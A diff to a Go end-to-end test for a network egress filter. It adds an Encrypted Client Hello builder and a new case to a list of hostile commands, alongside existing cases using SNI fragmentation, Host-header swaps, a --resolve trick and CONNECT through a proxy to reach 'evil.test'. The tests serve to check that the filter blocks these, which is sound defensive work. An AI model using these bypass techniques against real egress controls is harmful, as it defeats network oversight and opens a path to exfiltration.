@@ -4,6 +4,8 @@ package e2e
 
 import (
 	"bytes"
+	"crypto/ecdh"
+	"crypto/rand"
 	"crypto/tls"
 	"encoding/base64"
 	"encoding/binary"
@@ -29,11 +31,16 @@ var hostileZone = []string{
 }
 
 // hello is the first flight of a TLS client, in records of at most so many bytes.
-func hello(t *testing.T, name string, record int) []byte {
+// With an outer name, the other one is encrypted.
+func hello(t *testing.T, name, outer string, record int) []byte {
 	t.Helper()
+	conf := &tls.Config{ServerName: name, InsecureSkipVerify: true}
+	if outer != "" {
+		conf.EncryptedClientHelloConfigList = echConfig(t, outer)
+	}
 	near, far := net.Pipe()
 	go func() {
-		tls.Client(near, &tls.Config{ServerName: name, InsecureSkipVerify: true}).Handshake() // fails: nobody answers
+		tls.Client(near, conf).Handshake() // fails: nobody answers
 		near.Close()
 	}()
 	head := make([]byte, 5)
@@ -54,6 +61,21 @@ func hello(t *testing.T, name string, record int) []byte {
 		body = body[n:]
 	}
 	return out.Bytes()
+}
+
+// echConfig is what an HTTPS record tells of a server's key (RFC 9849 section 4).
+func echConfig(t *testing.T, public string) []byte {
+	t.Helper()
+	key, err := ecdh.X25519().GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	prefixed := func(b []byte) []byte { return append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...) }
+	body := append([]byte{1, 0, 0x20}, prefixed(key.PublicKey().Bytes())...) // config 1, X25519
+	body = append(body, prefixed([]byte{0, 1, 0, 1})...)                     // HKDF-SHA256, AES-128-GCM
+	body = append(body, 64, byte(len(public)))
+	body = append(append(body, public...), 0, 0)
+	return prefixed(append([]byte{0xfe, 0x0d}, prefixed(body)...))
 }
 
 // question is a DNS message with a length before it, as TCP carries it.
@@ -81,8 +103,8 @@ func hostileCommands(t *testing.T) []attempt {
 			return []string{peerBin(), "dial", "-timeout", "4s", "-send-base64", encoded, "-chunk", fmt.Sprint(chunk), at(pick(v6, four, six), port)}
 		}
 	}
-	tlsTo := func(name string, record, chunk int) func(bool) []string {
-		return bytesTo(far4, far6, 8443, base64.StdEncoding.EncodeToString(hello(t, name, record)), chunk)
+	tlsTo := func(name, outer string, record, chunk int) func(bool) []string {
+		return bytesTo(far4, far6, 8443, base64.StdEncoding.EncodeToString(hello(t, name, outer, record)), chunk)
 	}
 	const index = "egress[0] index"
 	header := "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
@@ -92,8 +114,9 @@ func hostileCommands(t *testing.T) []attempt {
 		{name: "a granted server by its bare address", command: curl("http://FAR:8080/"), reason: index},
 		{name: "a granted server without SNI", command: curl("https://FAR:8443/"), reason: index},
 		{name: "a granted server by another SNI", command: curl("--resolve", "evil.test:8443:FAR", "https://evil.test:8443/"), reason: index},
-		{name: "another SNI in records of one byte", command: tlsTo("evil.test", 1, 0), reason: index},
-		{name: "another SNI in segments of one byte", command: tlsTo("evil.test", 1<<14, 1), reason: index},
+		{name: "another SNI in records of one byte", command: tlsTo("evil.test", "", 1, 0), reason: index},
+		{name: "another SNI in segments of one byte", command: tlsTo("evil.test", "", 1<<14, 1), reason: index},
+		{name: "another SNI, encrypted beside the right one", command: tlsTo("evil.test", "pypi.test", 1<<14, 0), reason: index},
 		{name: "a granted server by another Host", command: curl("-H", "Host: evil.test", "http://pypi.test:8080/"), reason: index},
 		{name: "another Host on a kept connection", command: curl("http://pypi.test:8080/none", "--next", "-gsSk", "-m", "5", "-H", "Host: evil.test", "http://pypi.test:8080/"), reason: index},
 		{name: "CONNECT through an allowed proxy", command: curl("-p", "-x", "http://pypi.test:8080", "https://OTHER:8443/"), reason: index},
